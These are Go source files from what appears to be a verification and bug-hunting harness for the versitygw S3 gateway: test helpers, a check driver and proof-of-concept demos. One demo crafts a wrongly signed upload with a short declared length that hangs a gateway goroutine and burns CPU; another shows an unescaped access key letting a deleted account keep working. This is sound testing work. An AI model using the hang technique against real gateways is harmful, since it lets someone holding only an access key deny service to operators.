// and a proxy gateway whose backend is s3proxy pointed at the endpoint.
// endpointTLS selects https (self-signed, proxy started with ssl-skip-verify)
// or plain http for the endpoint.
func setup(name string, endpointTLS bool) (endpoint, proxy *gateway, cleanup func()) {
	root, err := os.MkdirTemp("/dev/shm", name+"-")
	if err != nil {
		panic(err)
	}
	data, vers, iamd, iamp := root+"/data", root+"/vers", root+"/iamd", root+"/iamp"
	for _, d := range []string{data, vers, iamd, iamp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			panic(err)
		}
	}
	be, err := posix.New(data, meta.XattrMeta{}, posix.PosixOpts{VersioningDir: vers, NewDirPerm: 0o755})
	if err != nil {
		panic(err)
	}
	endpoint = startGateway(be, "rootkey", "rootsecret", iamd, endpointTLS)
	// versitygw s3 --access rootkey --secret rootsecret --endpoint <endpoint> [--ssl-skip-verify]
	pb, err := s3proxy.New("rootkey", "rootsecret", endpoint.URL, region, false, endpointTLS, false)
	if err != nil {
		panic(err)
	}
	proxy = startGateway(pb, "rootkey", "rootsecret", iamp, false)
	return endpoint, proxy, func() { os.RemoveAll(root) }
}

type response struct {
	Status int
	Header http.Header
	Body   string
}

var reCode = regexp.MustCompile(`<Code>([^<]*)</Code>`)

// brief is "status" or "status code".
func (r response) brief() string {
	if m := reCode.FindStringSubmatch(r.Body); m != nil {
		return fmt.Sprintf("%d %s", r.Status, m[1])
	}
	return fmt.Sprint(r.Status)
}

// do sends one SigV4 signed request (path already escaped, with query).
func (g *gateway) do(access, secret, method, path string, hdr map[string]string, body string) response {
	req, err := http.NewRequest(method, g.URL+path, bytes.NewReader([]byte(body)))
	if err != nil {
		panic(err)
	}
	for k, v := range hdr {
		req.Header[k] = []string{v}
	}
	sum := sha256.Sum256([]byte(body))
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	if access == "" {
		access, secret = g.Access, g.Secret
	}
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	if err := signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: access, SecretAccessKey: secret},
		req, hexsum, "s3", region, time.Now()); err != nil {
		panic(err)
	}
	tr := &http.Transport{DisableCompression: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		panic(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return response{Status: resp.StatusCode, Header: resp.Header, Body: string(b)}
}
