//go:build huntdemo

// C17 hunt 2: the gateway's own admin client (versitygw admin delete-user /
// update-user) pastes the access key into the request URL without escaping
// it. For an access key that contains '+', '&', '#', '%' or a space the
// request names another key; delete-user of a key that does not exist is
// answered 200 by the internal IAM store, so the tool reports success while
// the account it was asked to delete keeps authenticating.
//
// The demo runs the real gateway in process (internal IAM store, default
// account cache) and the real CLI (go run ./cmd/versitygw admin ...).
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/versity/versitygw/auth"
)

func moduleRoot() string {
	out, err := exec.Command("go", "env", "GOMOD").Output()
	if err != nil {
		panic(err)
	}
	return filepath.Dir(strings.TrimSpace(string(out)))
}

func main() { os.Exit(run()) }

func run() int {
	modroot := moduleRoot()
	bindir, err := os.MkdirTemp("/dev/shm", "c17hunt2-bin-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(bindir)
	bin := filepath.Join(bindir, "versitygw")
	build := exec.Command("go", "build", "-o", bin, "./cmd/versitygw")
	build.Dir = modroot
	if out, err := build.CombinedOutput(); err != nil {
		fmt.Println("build of cmd/versitygw failed:", err, string(out))
		return 2
	}

	iamdir, err := os.MkdirTemp("/dev/shm", "c17hunt2-iam-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(iamdir)
	g := startGW(&auth.Opts{Dir: iamdir, CacheTTL: 120, CachePrune: 3600})
	defer g.stop()

	cli := func(args ...string) (string, error) {
		all := append([]string{"admin", "--access", rootAccess, "--secret", rootSecret,
			"--region", region, "--endpoint-url", g.url}, args...)
		out, err := exec.Command(bin, all...).CombinedOutput()
		return strings.TrimSpace(string(out)), err
	}

	const access, secret = "ops+backup", "secret1"

	if out, err := cli("create-user", "--access", access, "--secret", secret, "--role", "user"); err != nil {
		fmt.Println("cli create-user failed:", err, out)
		return 2
	}
	if c, b := g.do("GET", "/", nil, access, secret); c != 200 {
		fmt.Println("new account does not work:", c, b)
		return 2
	}

	out, err := cli("delete-user", "--access", access)
	fmt.Printf("versitygw admin delete-user --access %s : err=%v output=%q\n", access, err, out)
	if err != nil {
		fmt.Println("OK: the tool reported a failure")
		return 0
	}
	_, list := g.admin("/list-users", "")
	c, _ := g.do("GET", "/", nil, access, secret)
	fmt.Printf("after the acknowledged delete: list-users contains the account: %v, request signed by the account -> %d\n",
		strings.Contains(list, "<Access>"+access+"</Access>"), c)
	if c == 200 {
		fmt.Println("VIOLATION C17: versitygw admin delete-user --access 'ops+backup' succeeded (the unescaped '+' made the request name \"ops backup\", which the store 'deletes' with 200), and the account still authenticates")
		return 1
	}
	fmt.Println("OK: deleted account is refused")
	return 0
}
