//go:build huntdemo

// Property C02: a request without a valid signature is answered with a 4xx
// error, whatever its body size or encoding.
//
// Gateway under test: s3proxy backend (pointed at another in-process gateway
// that plays the s3 service). An upload signed with a WRONG secret key whose
// X-Amz-Decoded-Content-Length is smaller than the body it sends is never
// answered: the goroutine serving it spins forever in
// s3proxy.bodyErrReader.Read and keeps a CPU busy until the gateway is
// restarted. Only an access key id is needed, no secret.
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"time"
)

func cpu() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func code(body string) string {
	i, j := strings.Index(body, "<Code>"), strings.Index(body, "</Code>")
	if i < 0 || j < 0 {
		return body
	}
	return body[i+6 : j]
}

func main() {
	front, base := startGateways()
	defer os.RemoveAll(base)
	ep := "http://" + front

	legit := []byte("legit-data")
	if st, out := send(request("PUT", ep+"/bkt", nil, nil, rootSecret), 10*time.Second); st != 200 {
		fmt.Println("setup: create bucket:", st, out)
		os.Exit(2)
	}
	if st, out := send(request("PUT", ep+"/bkt/obj", legit, map[string]string{"x-amz-checksum-crc32": crc32b64(legit)}, rootSecret), 10*time.Second); st != 200 {
		fmt.Println("setup: put object:", st, out)
		os.Exit(2)
	}

	body := []byte("0123456789 this upload is signed with a wrong secret key")
	hdrs := map[string]string{"x-amz-checksum-crc32": crc32b64(body)}

	// control: wrong secret, honest length -> refused at once
	t0 := time.Now()
	st, out := send(request("PUT", ep+"/bkt/obj", body, hdrs, "not-the-secret"), 10*time.Second)
	fmt.Printf("wrong secret, declared length = body length:          %d %s after %v\n", st, code(out), time.Since(t0).Round(time.Millisecond))
	if st/100 != 4 {
		fmt.Println("unexpected: control request not refused with 4xx")
		os.Exit(2)
	}

	// attack: wrong secret, declares 10 bytes, sends 56
	hdrs["x-amz-decoded-content-length"] = "10"
	c0 := cpu()
	t0 = time.Now()
	st, out = send(request("PUT", ep+"/bkt/obj", body, hdrs, "not-the-secret"), 8*time.Second)
	wall, burnt := time.Since(t0), cpu()-c0
	fmt.Printf("wrong secret, X-Amz-Decoded-Content-Length: 10 (<56): %d %q after %v\n", st, out, wall.Round(time.Second))

	// the client has given up and closed its connection; is the gateway still busy with it?
	c1 := cpu()
	time.Sleep(3 * time.Second)
	after := cpu() - c1
	fmt.Printf("cpu time used by the gateway process: %v during the %v wait, %v in the 3s after the client went away\n",
		burnt.Round(100*time.Millisecond), wall.Round(time.Second), after.Round(100*time.Millisecond))

	_, now := send(request("GET", ep+"/bkt/obj", nil, nil, rootSecret), 10*time.Second)
	fmt.Printf("object content afterwards: %q\n", now)

	if st == -1 || st/100 != 4 {
		fmt.Println("VIOLATION C02: an upload with an invalid signature whose declared length is smaller than its body is never answered (no 4xx): the s3proxy gateway spins in bodyErrReader.Read forever, burning a CPU even after the client is gone")
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("property holds: the request was refused with", st)
}
