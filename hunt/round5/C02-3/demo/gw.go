//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/backend/s3proxy"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	rootAccess = "AKIAROOTACCESSKEY"
	rootSecret = "root-secret-key"
	region     = "us-east-1"
)

func check(err error) {
	if err != nil {
		fmt.Println("setup error:", err)
		os.Exit(2)
	}
}

// serve runs the real gateway front end (s3api.New, same fiber configuration
// as cmd/versitygw) on the given backend and returns its address
func serve(be backend.Backend) string {
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}})
	check(err)
	app := fiber.New(fiber.Config{
		AppName: "versitygw", ServerHeader: "VERSITYGW", StreamRequestBody: true,
		DisableKeepalive: true, Network: fiber.NetworkTCP, DisableStartupMessage: true,
	})
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	check(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	check(err)
	go app.Listener(ln)
	return ln.Addr().String()
}

// startGateways: an "s3 service" (gateway with posix backend below /dev/shm)
// and the gateway under test, whose backend is s3proxy pointed at that service
func startGateways() (front, base string) {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c02-3-")
	check(err)
	root := base + "/root"
	check(os.MkdirAll(root, 0o755))
	pbe, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0o755})
	check(err)
	back := serve(pbe)
	sbe, err := s3proxy.New(rootAccess, rootSecret, "http://"+back, region, false, false, false)
	check(err)
	return serve(sbe), base
}

func sha256hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func crc32b64(b []byte) string {
	var x [4]byte
	binary.BigEndian.PutUint32(x[:], crc32.ChecksumIEEE(b))
	return base64.StdEncoding.EncodeToString(x[:])
}

// request builds a header-signed request (aws sdk signer) with the given secret
func request(method, url string, body []byte, hdrs map[string]string, secret string) *http.Request {
	req, err := http.NewRequest(method, url, bytes.NewReader(body))
	check(err)
	req.Header.Set("X-Amz-Content-Sha256", sha256hex(body))
	for k, v := range hdrs {
		req.Header.Set(k, v)
	}
	check(v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: rootAccess, SecretAccessKey: secret},
		req, sha256hex(body), "s3", region, time.Now()))
	return req
}

// send performs the request and gives up after the timeout
func send(req *http.Request, timeout time.Duration) (int, string) {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	resp, err := http.DefaultTransport.RoundTrip(req.WithContext(ctx))
	if err != nil {
		return -1, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}
