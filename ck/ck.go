// Package ck is the shared driver for all checks: tier/seed handling,
// sharding over worker processes, violation signatures matched against
// known_findings.json, evidence files, replay artefacts, exit codes.
package ck

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

const VerifDir = "/verif"

// Violation is one property violation reduced to a class signature.
type Violation struct {
	Signature string `json:"signature"`
	Detail    any    `json:"detail"`
	Count     int    `json:"count"`
}

// Run accumulates what one check run covered.
type Run struct {
	Prop       string
	Tier       string
	Seed       int64
	Level      string
	ShardI     int // worker index (0-based); -1 in the parent / unsharded
	ShardN     int
	start      time.Time
	mu         sync.Mutex
	counters   map[string]int64
	distinct   map[string]struct{}
	outcomes   map[string]int64
	samples    []any
	viol       map[string]*Violation
	assume     []string
	extra      map[string]any
	exhaustive bool
	caps       []string
	rule       string
	deadline   time.Time
	Replay     string
}

type partial struct {
	Counters   map[string]int64      `json:"counters"`
	Distinct   []string              `json:"distinct"`
	Outcomes   map[string]int64      `json:"outcomes"`
	Samples    []any                 `json:"samples"`
	Viol       map[string]*Violation `json:"viol"`
	Assume     []string              `json:"assume"`
	Extra      map[string]any        `json:"extra"`
	Exhaustive bool                  `json:"exhaustive"`
	Caps       []string              `json:"caps"`
	Rule       string                `json:"rule"`
}

// Start creates a Run for prop from the environment (VERIF_TIER, VERIF_SEED,
// VERIF_SHARD, VERIF_PARTIAL) — the tier argument overrides VERIF_TIER.
func Start(prop, tier string) *Run {
	r := &Run{Prop: prop, Tier: tier, Level: "model_checking", ShardI: -1, ShardN: 1, start: time.Now(),
		counters: map[string]int64{}, distinct: map[string]struct{}{}, outcomes: map[string]int64{},
		viol: map[string]*Violation{}, extra: map[string]any{}, exhaustive: true}
	if r.Tier == "" {
		r.Tier = os.Getenv("VERIF_TIER")
	}
	if r.Tier != "thorough" {
		r.Tier = "quick"
	}
	if s := os.Getenv("VERIF_SEED"); s != "" {
		r.Seed, _ = strconv.ParseInt(s, 10, 64)
	}
	if s := os.Getenv("VERIF_SHARD"); s != "" {
		fmt.Sscanf(s, "%d/%d", &r.ShardI, &r.ShardN)
	}
	if s := os.Getenv("VERIF_DEADLINE_S"); s != "" {
		if n, err := strconv.Atoi(s); err == nil {
			r.deadline = r.start.Add(time.Duration(n) * time.Second)
		}
	}
	return r
}

func (r *Run) Thorough() bool { return r.Tier == "thorough" }
func (r *Run) IsWorker() bool { return r.ShardI >= 0 }

// Mine reports whether work item i belongs to this process.
func (r *Run) Mine(i int) bool {
	if r.ShardI < 0 {
		return true
	}
	return i%r.ShardN == r.ShardI
}

// SetDeadline sets an internal wall deadline; Expired() then reports it and
// marks the run non-exhaustive (never an alarm).
func (r *Run) SetDeadline(d time.Duration) {
	if r.deadline.IsZero() {
		r.deadline = r.start.Add(d)
	}
}

func (r *Run) Expired() bool {
	if r.deadline.IsZero() || time.Now().Before(r.deadline) {
		return false
	}
	r.Cap("internal wall deadline reached")
	return true
}

func (r *Run) Add(name string, n int64) {
	r.mu.Lock()
	r.counters[name] += n
	r.mu.Unlock()
}

func (r *Run) Get(name string) int64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.counters[name]
}

// Distinct records a non-trivial case key (hashed); returns true if new.
func (r *Run) Distinct(key string) bool {
	h := sha256.Sum256([]byte(key))
	k := hex.EncodeToString(h[:8])
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, ok := r.distinct[k]; ok {
		return false
	}
	r.distinct[k] = struct{}{}
	return true
}

// Outcome counts an observed outcome class (vacuity gate: many executions
// with one outcome means nothing collided).
func (r *Run) Outcome(class string) {
	r.mu.Lock()
	r.outcomes[class]++
	r.mu.Unlock()
}

func (r *Run) Sample(x any) {
	r.mu.Lock()
	if len(r.samples) < 6 {
		r.samples = append(r.samples, x)
	}
	r.mu.Unlock()
}

func (r *Run) Assume(s string) {
	r.mu.Lock()
	for _, a := range r.assume {
		if a == s {
			r.mu.Unlock()
			return
		}
	}
	r.assume = append(r.assume, s)
	r.mu.Unlock()
}

func (r *Run) Rule(s string) { r.rule = s }

func (r *Run) Extra(k string, v any) {
	r.mu.Lock()
	r.extra[k] = v
	r.mu.Unlock()
}

// Cap records that a cap was hit (run is not exhaustive).
func (r *Run) Cap(what string) {
	r.mu.Lock()
	r.exhaustive = false
	for _, c := range r.caps {
		if c == what {
			r.mu.Unlock()
			return
		}
	}
	r.caps = append(r.caps, what)
	r.mu.Unlock()
}

// Violation records a violation under a class signature. detail is stored
// for the first occurrence only.
func (r *Run) Violation(sig string, detail any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if v, ok := r.viol[sig]; ok {
		v.Count++
		return
	}
	r.viol[sig] = &Violation{Signature: sig, Detail: detail, Count: 1}
}

func (r *Run) NumViolations() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.viol)
}

// Sharded runs body in n worker processes (re-executing this binary with the
// same arguments and VERIF_SHARD=i/n) and merges their partial results. In a
// worker it just runs body. body must partition its work with r.Mine(i).
func (r *Run) Sharded(n int, body func()) {
	if r.IsWorker() || n <= 1 {
		body()
		return
	}
	if n > runtime.NumCPU() {
		n = runtime.NumCPU()
	}
	dir, err := os.MkdirTemp("/dev/shm", "verif-part-")
	if err != nil {
		Fatal("mkdtemp: %v", err)
	}
	defer os.RemoveAll(dir)
	var wg sync.WaitGroup
	errs := make([]error, n)
	outs := make([][]byte, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			cmd := exec.Command(os.Args[0], os.Args[1:]...)
			cmd.Env = append(os.Environ(),
				fmt.Sprintf("VERIF_SHARD=%d/%d", i, n),
				"VERIF_PARTIAL="+filepath.Join(dir, fmt.Sprintf("p%d.json", i)),
				"VERIF_TIER="+r.Tier)
			out, err := cmd.CombinedOutput()
			outs[i] = out
			errs[i] = err
		}(i)
	}
	wg.Wait()
	for i := 0; i < n; i++ {
		b, err := os.ReadFile(filepath.Join(dir, fmt.Sprintf("p%d.json", i)))
		if err != nil {
			tail := string(outs[i])
			if len(tail) > 3000 {
				tail = tail[len(tail)-3000:]
			}
			Fatal("worker %d/%d produced no result (%v); output tail:\n%s", i, n, errs[i], tail)
		}
		var p partial
		if err := json.Unmarshal(b, &p); err != nil {
			Fatal("worker %d: bad partial: %v", i, err)
		}
		r.merge(&p)
	}
}

func (r *Run) merge(p *partial) {
	r.mergeLocked(p)
}

func (r *Run) mergeLocked(p *partial) {
	for k, v := range p.Counters {
		r.counters[k] += v
	}
	for _, d := range p.Distinct {
		r.distinct[d] = struct{}{}
	}
	for k, v := range p.Outcomes {
		r.outcomes[k] += v
	}
	for _, s := range p.Samples {
		if len(r.samples) < 6 {
			r.samples = append(r.samples, s)
		}
	}
	for k, v := range p.Viol {
		if o, ok := r.viol[k]; ok {
			o.Count += v.Count
		} else {
			r.viol[k] = v
		}
	}
	for _, a := range p.Assume {
		dup := false
		for _, x := range r.assume {
			if x == a {
				dup = true
			}
		}
		if !dup {
			r.assume = append(r.assume, a)
		}
	}
	for k, v := range p.Extra {
		if _, ok := r.extra[k]; !ok {
			r.extra[k] = v
		}
	}
	if !p.Exhaustive {
		r.exhaustive = false
	}
	for _, c := range p.Caps {
		dup := false
		for _, x := range r.caps {
			if x == c {
				dup = true
			}
		}
		if !dup {
			r.caps = append(r.caps, c)
		}
		r.exhaustive = false
	}
	if r.rule == "" {
		r.rule = p.Rule
	}
}

// Fatal reports a tooling error (never a violation): exit 2.
func Fatal(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "TOOLING-ERROR: "+format+"\n", a...)
	os.Exit(2)
}

// ---- known findings -----------------------------------------------------

type Finding struct {
	Property  string `json:"property"`
	Signature string `json:"signature"`
	What      string `json:"what"`
	Commit    string `json:"commit,omitempty"`
}

type KnownFile struct {
	Known []Finding `json:"known"`
	Fixed []Finding `json:"fixed"`
}

func loadKnown() KnownFile {
	var k KnownFile
	b, err := os.ReadFile(filepath.Join(VerifDir, "known_findings.json"))
	if err != nil {
		return k
	}
	if err := json.Unmarshal(b, &k); err != nil {
		Fatal("known_findings.json: %v", err)
	}
	return k
}

// ---- finish ---------------------------------------------------------------

// Finish writes the partial (worker) or the evidence file + verdict (parent)
// and exits.
func (r *Run) Finish() {
	if r.IsWorker() {
		p := partial{Counters: r.counters, Outcomes: r.outcomes, Samples: r.samples, Viol: r.viol,
			Assume: r.assume, Extra: r.extra, Exhaustive: r.exhaustive, Caps: r.caps, Rule: r.rule}
		for d := range r.distinct {
			p.Distinct = append(p.Distinct, d)
		}
		b, _ := json.Marshal(p)
		if err := os.WriteFile(os.Getenv("VERIF_PARTIAL"), b, 0o644); err != nil {
			Fatal("write partial: %v", err)
		}
		os.Exit(0)
	}
	known := loadKnown()
	isKnown := map[string]Finding{}
	for _, f := range known.Known {
		if f.Property == r.Prop {
			isKnown[f.Signature] = f
		}
	}
	var sigs []string
	for s := range r.viol {
		sigs = append(sigs, s)
	}
	sort.Strings(sigs)
	newViol := 0
	var knownHit []string
	_ = os.MkdirAll(filepath.Join(VerifDir, "replay"), 0o755)
	for _, s := range sigs {
		v := r.viol[s]
		if f, ok := isKnown[s]; ok {
			fmt.Printf("KNOWN-FINDING: property=%s %s [%s] (x%d)\n", r.Prop, f.What, s, v.Count)
			knownHit = append(knownHit, s)
			continue
		}
		newViol++
		h := sha256.Sum256([]byte(s))
		path := filepath.Join(VerifDir, "replay", fmt.Sprintf("%s-%s.json", r.Prop, hex.EncodeToString(h[:5])))
		b, _ := json.MarshalIndent(map[string]any{"property": r.Prop, "signature": s, "count": v.Count, "detail": v.Detail, "tier": r.Tier}, "", " ")
		_ = os.WriteFile(path, b, 0o644)
		fmt.Printf("VIOLATION property=%s replay=%s\n", r.Prop, path)
		fmt.Printf("  signature: %s (x%d)\n", s, v.Count)
	}
	// listed findings that did not show up are reported (informational)
	for s, f := range isKnown {
		found := false
		for _, h := range knownHit {
			if h == s {
				found = true
			}
		}
		if !found && r.tierCovers(f) {
			fmt.Printf("note: listed finding not observed in this run: %s\n", s)
		}
	}

	cov := map[string]any{}
	for k, v := range r.extra {
		cov[k] = v
	}
	ev := r.counters["evaluations"]
	cov["evaluations"] = ev
	cov["distinct_nontrivial"] = len(r.distinct)
	cov["rule"] = r.rule
	cov["states"] = r.counters["states"]
	cov["transitions"] = r.counters["transitions"]
	cov["traces_validated_against_impl"] = r.counters["traces_validated_against_impl"]
	if cov["states"].(int64) == 0 {
		// every case executed on the real implementation is a state of the explored space
		cov["states"] = int64(len(r.distinct))
	}
	if cov["transitions"].(int64) == 0 {
		cov["transitions"] = ev
	}
	if cov["traces_validated_against_impl"].(int64) == 0 {
		cov["traces_validated_against_impl"] = ev
	}
	for k, v := range r.counters {
		if _, ok := cov[k]; !ok {
			cov[k] = v
		}
	}
	samples := r.samples
	if len(samples) == 0 {
		samples = []any{"(no sample recorded)"}
	}
	cov["samples"] = samples
	cov["exhaustive"] = r.exhaustive
	if len(r.caps) > 0 {
		cov["caps_hit"] = r.caps
	}
	oc := map[string]int64{}
	for k, v := range r.outcomes {
		oc[k] = v
	}
	cov["distinct_outcomes"] = len(oc)
	if len(oc) <= 40 {
		cov["outcomes"] = oc
	}
	cov["known_findings_matched"] = knownHit
	evd := map[string]any{
		"property_id": r.Prop,
		"tier":        r.Tier,
		"seed":        r.Seed,
		"level":       r.Level,
		"coverage":    cov,
		"assumptions": append([]string{}, r.assume...),
		"wall_s":      time.Since(r.start).Seconds(),
		"violations":  newViol,
	}
	_ = os.MkdirAll(filepath.Join(VerifDir, "evidence"), 0o755)
	b, _ := json.MarshalIndent(evd, "", " ")
	if err := os.WriteFile(filepath.Join(VerifDir, "evidence", r.Prop+".json"), b, 0o644); err != nil {
		Fatal("write evidence: %v", err)
	}
	fmt.Printf("%s %s: evaluations=%d distinct=%d outcomes=%d known=%d violations=%d exhaustive=%v wall=%.1fs\n",
		r.Prop, r.Tier, ev, len(r.distinct), len(oc), len(knownHit), newViol, r.exhaustive, time.Since(r.start).Seconds())
	if newViol > 0 {
		os.Exit(1)
	}
	os.Exit(0)
}

func (r *Run) tierCovers(f Finding) bool { return true }

// Scratch creates a private scratch directory under /dev/shm and returns it
// with a cleanup function.
func Scratch(tag string) (string, func()) {
	d, err := os.MkdirTemp("/dev/shm", "verif-"+tag+"-")
	if err != nil {
		Fatal("scratch: %v", err)
	}
	return d, func() { os.RemoveAll(d) }
}

// Short trims a string for signatures and samples.
func Short(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

func JoinSig(parts ...string) string { return strings.Join(parts, " | ") }

// MergePartialFile merges a worker's partial result file (for drivers that manage their own workers).
func (r *Run) MergePartialFile(path string) {
	b, err := os.ReadFile(path)
	if err != nil {
		Fatal("read partial %s: %v", path, err)
	}
	var p partial
	if err := json.Unmarshal(b, &p); err != nil {
		Fatal("bad partial %s: %v", path, err)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.mergeLocked(&p)
}
