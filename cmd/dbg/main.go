package main

import (
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/versity/versitygw/s3api/utils"
	"verif/checks"
	"verif/gw"
)

type src struct {
	data []byte
	off  int
	plan []int
}

func (s *src) Read(p []byte) (int, error) {
	if s.off >= len(s.data) {
		return 0, io.EOF
	}
	n := len(s.data) - s.off
	if len(s.plan) > 0 {
		n = s.plan[0]
		s.plan = s.plan[1:]
	}
	if n > len(p) {
		n = len(p)
	}
	copy(p, s.data[s.off:s.off+n])
	s.off += n
	return n, nil
}

func main() {
	t := time.Date(2026, 9, 28, 12, 0, 0, 0, time.UTC)
	sec := "c12secretc12secretc12"
	seed := gw.Signed{Time: t, Region: gw.Region, Signature: strings.Repeat("ab", 32), Key: gw.SigningKey(sec, gw.Region, t), Scope: t.Format("20060102") + "/" + gw.Region + "/s3/aws4_request"}
	payload := checks.Pattern(3, 5)
	enc, _ := gw.EncodeSigned(seed, [][]byte{payload}, "crc32")
	fmt.Printf("len=%d\n%q\n", len(enc), enc)
	for _, cut := range []int{297, 296, 250, len(enc)} {
		s := &src{data: enc, plan: []int{cut}}
		ad := utils.AuthData{Signature: seed.Signature}
		rd, _ := utils.NewSignedChunkReader(s, ad, gw.Region, sec, t, "x-amz-checksum-crc32", false)
		buf := make([]byte, 4096)
		n, err := rd.Read(buf)
		fmt.Println(cut, n, err)
		n, err = rd.Read(buf)
		fmt.Println("  second", n, err)
	}
}
