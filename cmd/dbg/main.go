package main

import (
	"fmt"

	"verif/checks"
	"verif/gw"
)

func main() {
	w := checks.NewWorld("dbg", gw.Opts{})
	defer w.Close()
	adm := gw.Creds{Access: "adm1", Secret: "adm1secretadm1secret"}
	bad := 0
	for i := 0; i < 400; i++ {
		for _, q := range []string{"acl", "tagging", "versions", ""} {
			r := &gw.Req{Method: "GET", Path: "/bk-main", Query: q}
			gw.Sign(r, adm, gw.SignOpts{})
			resp := w.F.G.Do(r)
			if resp.Status == 403 {
				bad++
				if bad < 4 {
					fmt.Println(i, q, resp.String()[:200], r.Headers)
				}
			}
		}
	}
	fmt.Println("bad", bad)
}
