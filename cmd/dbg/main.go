package main

import (
	"fmt"

	"verif/checks"
	"verif/gw"
)

func main() {
	w := checks.NewWorld("dbg", gw.Opts{Versioning: true})
	defer w.Close()
	for _, k := range []string{"mpk", "mpk2", "dir/mpk3", "a-up", "zz-up", "mpk2"} {
		w.F.Do(gw.Root, "POST", gw.ObjPath(w.Bucket, k), "uploads", nil, nil)
	}
	for _, km := range []string{"mpk", "a-up", "mpk2", "dir/mpk3"} {
		for _, mu := range []string{"1", "2"} {
			r := w.F.Do(gw.Root, "GET", "/"+w.Bucket, gw.Q("uploads", "", "max-uploads", mu, "key-marker", km), nil, nil)
			fmt.Println(km, mu, r.Status, len(r.Body), string(r.Body)[:min(300, len(r.Body))])
		}
	}
}
