// racepass: auxiliary free-running pass under the Go race detector (see checks/racepass.go, tools/racepass.sh).
package main

import (
	"flag"

	"verif/checks"
)

func main() {
	n := flag.Int("iter", 120, "iterations per goroutine")
	flag.Parse()
	checks.RacePass(*n)
}
