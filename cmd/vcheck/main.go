// vcheck runs one property check: vcheck -prop C13 -tier quick
package main

import (
	"flag"
	"fmt"
	"os"

	"verif/checks"
	"verif/ck"
)

func main() {
	prop := flag.String("prop", "", "property id")
	tier := flag.String("tier", "", "quick|thorough")
	replay := flag.String("replay", "", "replay artefact")
	flag.Parse()
	f, ok := checks.Registry[*prop]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown property %q\n", *prop)
		os.Exit(2)
	}
	r := ck.Start(*prop, *tier)
	r.Replay = *replay
	f(r)
	r.Finish()
}
