// instrument generates, from /repo's CURRENT working tree, a `go build
// -overlay` file that swaps library imports of selected versitygw source
// files for the shim packages in /verif/shim (library-boundary
// instrumentation: any new filesystem step, lock or sleep a change to
// versitygw introduces is hooked automatically). Identifiers a shim does
// not forward yet get a generated forwarder preceded by a conservative
// scheduling point ("unmodelled:<name>"), so the build never silently loses
// a visible step.
//
// usage: instrument -out <dir> [-repo /repo] [-set name=value ...]
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"go/ast"
	"go/format"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

type profile struct {
	globs   []string
	imports map[string]string // real import path -> shim import path
	goStmt  bool              // rewrite `go f(x)` into vsched.Go(func(){ f(x) })
	mapOrd  bool              // rewrite `range <map>` into an explorer-ordered loop (vmap.Keys)
}

var shims = map[string]string{
	"os":                    "verif/shim/vos",
	"github.com/pkg/xattr":  "verif/shim/vxattr",
	"golang.org/x/sys/unix": "verif/shim/vunix",
	"sync":                  "verif/shim/vsync",
	"time":                  "verif/shim/vtime",
}

func pick(keys ...string) map[string]string {
	m := map[string]string{}
	for _, k := range keys {
		m[k] = shims[k]
	}
	return m
}

var profiles = []profile{
	{globs: []string{"backend/posix/*.go", "backend/*.go", "backend/meta/*.go"},
		imports: pick("os", "github.com/pkg/xattr", "golang.org/x/sys/unix")},
